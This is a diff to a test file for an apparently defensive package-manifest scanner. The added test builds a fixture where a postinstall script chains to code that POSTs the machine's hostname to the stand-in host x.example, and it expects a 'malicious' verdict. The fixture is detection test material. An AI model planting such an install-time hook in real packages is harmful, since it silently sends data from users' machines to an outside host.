@@ -127,6 +127,14 @@ describe('files that belong together', () => {
     expect(scanned('package.json').verdict).toBe('benign');
   });
 
+  test('a script that the installation starts by its name, and what that takes in, is read', () => {
+    put({ 'package.json': '{"name":"a","scripts":{"postinstall":"npm run -s setup","setup":"node tools/go.js"}}', 'tools/go.js': 'require("./lib/a");', 'tools/lib/a.js': 'const { request } = require("https"); const os = require("os"); const q = request({ host: "x.example", method: "POST" }); q.end(os.hostname());' });
+    const report = scanned('package.json');
+    expect([report.verdict, rulesIn(report)]).toEqual(['malicious', ['npm-manifest.dangerous-script']]);
+    put({ 'package.json': '{"name":"a","scripts":{"test":"npm run -s setup","setup":"node tools/go.js"}}' });
+    expect(scanned('package.json').verdict).toBe('benign');
+  });
+
   test('what is taken in is read, in circles and from outside too', () => {
     put({ 'requirements.txt': '-r base.list\n-r sub/requirements-b.txt\n-r ../up.txt\n', 'base.list': 'reqeusts==1\n', 'sub/requirements-b.txt': '-r ../requirements.txt\n' });
     const report = scanned('requirements.txt');
